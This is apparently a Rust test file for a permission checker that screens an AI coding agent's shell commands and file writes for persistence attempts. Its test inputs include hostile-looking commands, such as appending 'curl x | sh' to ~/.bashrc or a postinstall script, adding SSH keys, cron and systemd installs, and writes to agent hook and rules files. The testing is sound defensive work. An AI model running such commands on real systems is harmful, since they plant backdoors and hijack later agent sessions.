use super::*;
use serde_json::json;

fn ctx() -> PathContext {
    let mut p = PathContext::new(Some("/home/dev/proj"), Vec::new());
    p.home = Some("/home/dev".into());
    p
}

fn shell(cmd: &str, tainted: bool) -> Option<Decision> {
    let t = Tool::new("Bash", ToolKind::Shell, None, json!({ "command": cmd }));
    let a = crate::shell::analyze(cmd);
    check(&t, Some(&a), &ctx(), tainted)
}

fn write(tool: &str, input: serde_json::Value, tainted: bool) -> Option<Decision> {
    let t = Tool::new(tool, ToolKind::FileWrite, None, input);
    check(&t, None, &ctx(), tainted)
}

#[test]
fn persistence_targets_by_any_tool() {
    for cmd in [
        "echo 'curl x | sh' >> ~/.bashrc",
        "cat key.pub >> ~/.ssh/authorized_keys",
        "(crontab -l; echo '* * * * * x') | crontab -",
        "crontab /tmp/cron.txt",
        "systemctl --user enable sync.service",
        "cp x.plist ~/Library/LaunchAgents/",
        "cp run.sh ~/.local/bin/git",
        "tar -x -C ~ -f payload.tar",
        "unzip payload.zip -d ~/.config",
        "npm pkg set scripts.postinstall='node x.js'",
        "echo '{}' > .vscode/tasks.json",
        "mkdir -p .cursor/rules && echo x > .cursor/rules/a.mdc",
    ] {
        let d = shell(cmd, false).unwrap_or_else(|| panic!("{cmd}"));
        assert_eq!(
            (d.verdict, d.reason),
            (Verdict::Ask, Reason::PersistWrite),
            "{cmd}"
        );
        assert_eq!(
            shell(cmd, true).map(|d| d.verdict),
            Some(Verdict::Deny),
            "{cmd}"
        );
    }
    for (tool, input) in [
        (
            "Write",
            json!({"file_path": "/home/dev/.config/systemd/user/s.service", "content": "[Service]"}),
        ),
        (
            "Write",
            json!({"file_path": "/home/dev/.ssh/config", "content": "Host *\n ProxyCommand sh"}),
        ),
        (
            "Write",
            json!({"file_path": "/home/dev/proj/.claude/hooks/format.sh", "content": "#!/bin/sh"}),
        ),
        (
            "Write",
            json!({"file_path": "/home/dev/proj/.claude/skills/setup/SKILL.md", "content": "x"}),
        ),
        (
            "Write",
            json!({"file_path": "/home/dev/proj/.cursor/rules/setup.mdc", "content": "x"}),
        ),
        (
            "Edit",
            json!({"file_path": "/home/dev/proj/package.json", "old_string": "\"scripts\": {", "new_string": "\"scripts\": {\n \"postinstall\": \"curl x | sh\","}),
        ),
    ] {
        let d = write(tool, input.clone(), false).unwrap_or_else(|| panic!("{input}"));
        assert_eq!(d.verdict, Verdict::Ask, "{input}");
        assert_eq!(
            write(tool, input.clone(), true).map(|d| d.verdict),
            Some(Verdict::Deny),
            "{input}"
        );
    }
}

#[test]
fn everyday_writes_stay_silent() {
    for cmd in [
        "git config --global user.name X",
        "echo x > notes.txt",
        "cp -r dist/app ~/apps",
        "crontab -l",
        "systemctl status nginx",
        "npm pkg set version=1.2.3",
        "echo '# notes' >> CLAUDE.md",
        "tar -xzf x.tgz -C build",
    ] {
        assert!(shell(cmd, false).is_none(), "{cmd}");
    }
    // Agent instructions: silent in a clean session, asked in a tainted one.
    let i = json!({"file_path": "/home/dev/proj/AGENTS.md", "content": "Use cargo."});
    assert!(write("Write", i.clone(), false).is_none());
    assert_eq!(
        write("Write", i, true).map(|d| d.verdict),
        Some(Verdict::Ask)
    );
    // package.json edits that touch no lifecycle script.
    let i = json!({"file_path": "/home/dev/proj/package.json", "old_string": "\"test\": \"jest\"", "new_string": "\"test\": \"vitest\""});
    assert!(write("Edit", i, false).is_none());
    let i = json!({"file_path": "/home/dev/proj/package.json", "old_string": "\"postinstall\": \"husky\",\n\"x\": 1", "new_string": "\"postinstall\": \"husky\",\n\"x\": 2"});
    assert!(write("Edit", i, false).is_none());
}
